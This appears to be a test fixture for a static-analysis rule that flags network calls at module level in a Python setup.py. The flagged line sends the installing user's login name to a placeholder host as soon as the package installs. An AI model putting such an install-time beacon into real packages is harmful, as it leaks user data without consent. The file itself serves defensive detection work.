import os
import socket
import urllib.request

from setuptools import setup

# ruleid: py-setup-module-level-network
urllib.request.urlopen("https://example.invalid/ping?u=" + os.getlogin())


def long_description():
    # ok: py-setup-module-level-network
    return urllib.request.urlopen(README_URL).read().decode()


# ok: py-setup-module-level-network
setup(name="pkg", version="1.0")
